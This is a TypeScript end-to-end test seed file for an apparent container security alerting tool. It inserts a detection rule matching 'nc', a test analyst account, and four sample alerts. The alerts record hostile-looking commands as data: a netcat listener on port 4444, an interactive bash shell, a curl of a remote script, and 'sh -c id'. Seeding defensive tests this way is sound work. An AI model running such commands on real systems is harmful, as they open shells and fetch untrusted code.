import { hashPassword } from "../lib/auth/passwords";
import { createPrismaClient } from "../lib/db/client";

import { E2E_DATABASE_URL } from "./database";

/**
 * Puts a rule, an analyst and a few alerts straight into the end-to-end
 * database (e2e/database.ts), so the alert list can be tested without going
 * through ingest.
 */

export const LIST_RULE = { id: "e2e-list-rule", name: "E2E list: suspicious tool in container" };
export const LIST_ANALYST = {
  username: "list-analyst",
  displayName: "List Analyst",
  password: "list-analyst-password-0123",
};

/** Every seeded alert carries this in its container name, so searches can find exactly them. */
export const SEED_MARK = "e2e-list";

export interface SeededAlert {
  id: string;
  severity: string;
  containerName: string;
  commandLine: string;
}

const ALERTS = [
  { severity: "high", rank: 3, risk: 73, container: "payments", command: "nc -lvp 4444", minutes: 1 },
  { severity: "high", rank: 3, risk: 70, container: "frontend", command: "bash -i", minutes: 2 },
  { severity: "low", rank: 1, risk: 21, container: "batch", command: "curl http://example.test/x.sh", minutes: 3 },
  { severity: "critical", rank: 4, risk: 99, container: "db", command: "sh -c id", minutes: 4 },
] as const;

export async function seedListAlerts(): Promise<SeededAlert[]> {
  const db = createPrismaClient(E2E_DATABASE_URL);
  try {
    await db.rule.upsert({
      where: { id: LIST_RULE.id },
      update: {},
      create: {
        id: LIST_RULE.id,
        name: LIST_RULE.name,
        description: "Seeded by e2e/seed-alerts.ts",
        query: 'process where process.name : "nc"',
        severity: "high",
        riskScore: 73,
      },
    });
    await db.user.upsert({
      where: { username: LIST_ANALYST.username },
      update: {},
      create: {
        username: LIST_ANALYST.username,
        displayName: LIST_ANALYST.displayName,
        role: "analyst",
        passwordHash: await hashPassword(LIST_ANALYST.password),
      },
    });
    await db.alert.deleteMany({ where: { ruleId: LIST_RULE.id } });
    const seeded: SeededAlert[] = [];
    for (const [index, alert] of ALERTS.entries()) {
      const containerName = `${SEED_MARK}-${alert.container}`;
      const row = await db.alert.create({
        data: {
          ruleId: LIST_RULE.id,
          ruleName: LIST_RULE.name,
          severity: alert.severity,
          severityRank: alert.rank,
          riskScore: alert.risk,
          dedupKey: `${SEED_MARK}-${index}`,
          timestamp: new Date(Date.UTC(2026, 10, 20, 10, alert.minutes)),
          containerId: `cid-${alert.container}`,
          containerName,
          imageName: `registry.test/${alert.container}:1`,
          hostName: "e2e-node-1",
          processName: alert.command.split(" ")[0] ?? null,
          commandLine: alert.command,
          userName: "root",
        },
      });
      seeded.push({ id: row.id, severity: alert.severity, containerName, commandLine: alert.command });
    }
    return seeded;
  } finally {
    await db.$disconnect();
  }
}

/** Leaves the database as other specs expect it: no alerts, no extra people. */
export async function removeListAlerts(): Promise<void> {
  const db = createPrismaClient(E2E_DATABASE_URL);
  try {
    await db.alert.deleteMany({ where: { ruleId: LIST_RULE.id } });
    await db.rule.deleteMany({ where: { id: LIST_RULE.id } });
    await db.user.deleteMany({ where: { username: LIST_ANALYST.username } });
  } finally {
    await db.$disconnect();
  }
}
